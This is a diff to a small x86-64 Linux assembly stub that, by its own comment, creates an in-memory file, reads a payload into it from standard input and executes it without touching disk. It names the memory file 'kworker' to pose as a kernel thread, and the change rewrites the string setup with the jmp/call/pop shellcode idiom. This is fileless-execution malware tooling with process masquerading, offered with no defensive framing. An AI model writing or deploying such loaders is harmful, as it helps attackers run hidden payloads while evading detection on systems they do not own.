@@ -1,8 +1,7 @@
 ; Linux, 64 bit: makes a file in memory, fills it from descriptor 0, and executes it without a name on the disk.
 bits 64
-        mov rbx, 'kworker'
-        push rbx
-        mov rdi, rsp
+        jmp short name
+back:   pop rdi
         push 1
         pop rsi
         mov eax, 319            ; memfd_create
@@ -28,3 +27,5 @@ bits 64
         mov r8d, 0x1000         ; AT_EMPTY_PATH
         mov eax, 322            ; execveat
         syscall
+name:   call back
+        db 'kworker', 0
